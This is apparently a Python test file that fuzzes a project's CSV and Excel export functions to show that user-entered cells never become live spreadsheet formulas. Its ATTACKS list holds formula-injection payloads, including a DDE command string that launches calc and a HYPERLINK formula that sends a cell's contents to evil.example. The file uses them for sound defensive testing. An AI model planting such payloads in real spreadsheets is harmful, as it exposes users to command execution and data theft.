"""Tables out: no cell that a person filled becomes a formula, and numbers stay numbers."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lantern.files.tables.going_out import csv_file, csv_response, harmless, xlsx_file, xlsx_response
from tests.figures import Figure

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
BEFORE = ["", " ", "   ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u202e", "\x00", "\t ", "\r\n", "\x0b"]
ATTACKS = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1)',
    "1+1",
    "SUM(1;2)",
    'WEBSERVICE("//evil")',
    "",
    "2",
    '"a",b\n=1',
]
LETTERS = st.text(st.characters(exclude_categories=("Cs",)), max_size=20)
ENDINGS = st.sampled_from(ATTACKS) | st.text(max_size=20)
hostile_cells = st.builds("{}{}{}".format, st.sampled_from(BEFORE), st.sampled_from(STARTS), ENDINGS)


def formulas_in_csv(content: bytes) -> list[str]:
    """The cells that a spreadsheet program would run, once it has dropped what it does not show."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    shown = [cell.strip("\x00\ufeff\u200b\u202e\u00a0\u3000 \t\r\n\x0b") for row in rows for cell in row]
    return [
        cell
        for cell in shown
        if cell[:1] in {"=", "+", "-", "@", "＝", "＋", "－", "＠"} and cell and not _is_number(cell)
    ]


def formulas_in_xlsx(content: bytes) -> list[object]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_search_for_formulas_finds_those_of_a_careless_writer() -> None:
    careless = io.StringIO()
    csv.writer(careless).writerow(["=1+1", " @SUM(1)", "-5"])
    assert formulas_in_csv(careless.getvalue().encode()) == ["=1+1", "@SUM(1)"]
    book, made = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["=1+1"])
    book.save(made)
    assert formulas_in_xlsx(made.getvalue()) == ["=1+1"]


def test_no_cell_becomes_a_formula_in_either_format(figure: Figure) -> None:
    cells: list[str] = []

    @settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(hostile_cells, min_size=10, max_size=20))
    def every_row(row: list[str]) -> None:
        cells.extend(row)
        assert formulas_in_csv(csv_file([row])) == []
        assert formulas_in_xlsx(xlsx_file([row])) == []

    every_row()
    assert len(cells) >= 1_000
    figure(
        "exports: live formulas", f"0 of {len(cells)} cells", against="CSV and Excel, read back", target="0 of 1,000"
    )


@given(
    st.lists(
        st.lists(hostile_cells | LETTERS, min_size=1, max_size=5),
        max_size=5,
    )
)
@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_what_was_written_is_read_back(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(csv_file(rows).decode("utf-8-sig"), newline="")))
    assert read == [[harmless(cell) for cell in row] for row in rows]


def test_numbers_stay_numbers_and_texts_that_look_like_them_stay_texts() -> None:
    row = [-5, -1.5, Decimal("-2.50"), 0, "-5", "+44 7700 900123", True, None, "007", "#N/A", float("inf")]
    assert csv_file([row]).decode("utf-8-sig") == "-5,-1.5,-2.50,0,'-5,'+44 7700 900123,True,,007,#N/A,inf\r\n"
    (read,) = openpyxl.load_workbook(io.BytesIO(xlsx_file([row]))).active.iter_rows()
    assert [cell.value for cell in read] == [
        -5,
        -1.5,
        -2.5,
        0,
        "-5",
        "+44 7700 900123",
        "True",
        None,
        "007",
        "#N/A",
        "inf",
    ]
    assert [cell.data_type for cell in read] == ["n", "n", "n", "n", "s", "s", "s", "n", "s", "s", "s"]


def test_a_text_in_excel_keeps_being_one_when_somebody_edits_it() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_file([["=1+1"]]))).active
    assert sheet["A1"].value == "=1+1"
    assert sheet["A1"].quotePrefix


def test_days_are_days_and_moments_are_shown_as_on_the_clock_here() -> None:
    row = [date(2026, 3, 4), datetime(2026, 7, 1, 12, 30, tzinfo=UTC)]
    assert csv_file([row]).decode("utf-8-sig") == "2026-03-04,2026-07-01 13:30\r\n"
    (cells,) = openpyxl.load_workbook(io.BytesIO(xlsx_file([row]))).active.iter_rows(values_only=True)
    assert cells == (datetime(2026, 3, 4), "2026-07-01 13:30")  # noqa: DTZ001 -- a workbook's dates have no zone


@pytest.mark.parametrize("cell", ["a\x00b", "bell\x07", "\x1f=1", "x" * 40_000])
def test_a_cell_that_excel_could_not_hold_does_not_break_the_file(cell: str) -> None:
    assert formulas_in_xlsx(xlsx_file([[cell]])) == []


def test_the_answers_are_attachments_with_a_plain_name() -> None:
    for answer, ending in (
        (csv_response("Röund /1: Ä", ["A"], [[1]]), "csv"),
        (xlsx_response("Röund /1: Ä", ["A"], [[1]]), "xlsx"),
    ):
        assert answer["Content-Disposition"] == f'attachment; filename="round-1-a.{ending}"'
